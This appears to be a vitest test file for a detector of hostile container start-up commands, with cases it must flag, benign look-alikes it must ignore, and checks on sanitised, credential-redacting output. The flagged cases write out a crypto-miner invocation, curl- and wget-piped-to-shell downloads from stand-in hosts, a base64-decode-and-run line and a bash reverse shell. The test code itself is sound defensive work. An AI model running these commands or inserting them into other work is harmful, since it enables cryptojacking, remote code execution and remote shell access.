import { describe, expect, it } from 'vitest';
import { hostileReasons, hostileSign } from './ecs-hostile.ts';

describe('hostile start-up code', () => {
  it.each([
    'docker.io/someone/xmrig:latest',
    './x -o stratum+ssl://pool.example:443 -u wallet',
    'sh -c curl -s http://198.51.100.7/a.sh | bash',
    'wget -qO- https://example.com/i | sudo sh',
    'echo aGk= | base64 -d | sh',
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'run --donate-level 1',
  ])('%s', (code) => {
    expect(hostileSign(code)).toBeDefined();
  });
  it.each([
    'nginx:1.29',
    'python worker.py --pool 4',
    'curl -f http://localhost/health || exit 1',
    'base64 -d key.b64 > key',
    'npm run miner-report',
    'cat /dev/tcpdump',
  ])('leaves %s alone', (code) => {
    expect(hostileSign(code)).toBeUndefined();
  });
  it('says in one harmless line what was seen', () => {
    const [reason] = hostileReasons([undefined, 'curl \u001b[31mhttp://x\u202e | sh']);
    expect(reason).toMatchObject({ code: 'runs-code' });
    expect(hostileSign('curl https://user:hunter2@example.com/a?token=s3cret | sh')).toBe('curl https://...@example.com/a?... | sh');
    expect(reason!.text.en).not.toMatch(/[\u001b\u202e\n]/);
  });
});
